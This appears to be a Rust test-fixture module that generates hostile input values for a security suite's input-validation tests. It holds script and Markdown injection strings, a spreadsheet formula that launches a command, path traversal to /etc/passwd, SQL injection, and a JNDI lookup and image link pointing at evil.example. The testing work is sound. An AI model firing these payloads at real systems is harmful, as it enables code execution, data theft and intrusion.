//! Hostile values for the security suite's input attack: at least forty per kind of field, from
//! overlong text to homoglyph addresses, script and Markdown injection, formula prefixes, path
//! traversal, numbers that overflow and dates that make no sense. JSON values are raw JSON text, so
//! that unpaired surrogates and duplicated keys can be sent as a client could send them.

/// Lengths around common field limits, and a mebibyte.
const LENGTHS: [usize; 8] = [80, 81, 200, 201, 2_000, 20_001, 100_001, 1 << 20];

/// Text values (also sent as form fields and query values).
pub fn texts() -> Vec<String> {
    let mut values: Vec<String> = [
        "",
        " ",
        "   \t\n  ",
        "a\u{0}b",
        "\u{1}\u{2}\u{7}\u{1b}[31m\u{7f}",
        "line\r\nInjected-Header: yes",
        "\u{202e}txt.exe\u{202c}",
        "a\u{200b}\u{200d}\u{2060}b",
        "\u{feff}",
        "ａｄｍｉｎ",
        "аdmin@exаmple.com",
        "admin@example.com\u{0}",
        "admin@example.com, other@example.com",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)' x='",
        "<svg/onload=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](&#106;avascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "![x](https://evil.example/t.png)",
        "=cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%00",
        "1",
        "-1",
        "0",
        "1.5",
        "9223372036854775808",
        "-9223372036854775809",
        "1e308",
        "NaN",
        "Infinity",
        "2027-01-01",
        "2027-01-01T00:00:00",
        "1970-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "2027-02-30T25:61:00Z",
        "'; DROP TABLE users; --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "😀🇰🇷𝕏",
        "냄비 우산이",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    values.extend(LENGTHS.iter().map(|n| "x".repeat(*n)));
    values
}

/// JSON values: every text as a JSON string, then what is not a string at all.
pub fn json_values() -> Vec<String> {
    let mut values: Vec<String> =
        texts().iter().map(|t| serde_json::to_string(t).unwrap_or_else(|_| "\"\"".to_owned())).collect();
    values.extend(
        [
            "\"\\ud800\"",
            "\"\\udfff x\"",
            "\"a\\u0000b\"",
            "0",
            "-1",
            "1.5",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "1e308",
            "-1e308",
            "true",
            "null",
            "[]",
            "{}",
            "[\"a\", 1]",
            "{\"a\": {\"b\": [1]}}",
            "{\"amount_minor\": -1, \"currency\": \"USD\"}",
            "{\"amount_minor\": 0, \"currency\": \"USD\"}",
            "{\"amount_minor\": 1.5, \"currency\": \"USD\"}",
            "{\"amount_minor\": \"100\", \"currency\": \"USD\"}",
            "{\"amount_minor\": 9223372036854775807, \"currency\": \"USD\"}",
            "{\"amount_minor\": 100, \"currency\": \"XXX\"}",
            "{\"amount_minor\": 100, \"currency\": \"usd\"}",
            "{\"amount_minor\": 100, \"currency\": \"KRW\"}",
            "{\"amount_minor\": 100}",
        ]
        .iter()
        .map(|s| (*s).to_owned()),
    );
    values
}

/// Path segments, already percent-encoded where they must be.
pub fn path_segments() -> Vec<String> {
    let mut values: Vec<String> = [
        "0",
        "-1",
        "1.5",
        "1e3",
        "9223372036854775807",
        "9223372036854775808",
        "99999999999999999999999",
        "0x10",
        "%20",
        "%00",
        "%0A",
        "%E2%80%AE",
        "%F0%9F%98%80",
        "%FF%FE",
        "..",
        "..%2F..%2Fetc%2Fpasswd",
        "%2E%2E%2F%2E%2E%2F",
        "....%2F%2F",
        "%252e%252e%252f",
        "a%2Fb",
        "a%5Cb",
        "%3Cscript%3E",
        "%22%3E%3Cimg%20src%3Dx%3E",
        "'%20OR%201%3D1",
        "1%3B%20DROP%20TABLE%20users",
        "null",
        "undefined",
        "true",
        "%7B%7D",
        "%5B%5D",
        "1%20",
        "%201",
        "01",
        "+1",
        "1,2",
        "NaN",
        "Infinity",
        "abc",
        "%D0%B0",
        "CON",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    values.push("9".repeat(5_000));
    values
}

/// `application/x-www-form-urlencoded` encoding of a text.
pub fn form_encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.*".contains(&b) {
                (b as char).to_string()
            } else if b == b' ' {
                "+".to_owned()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}
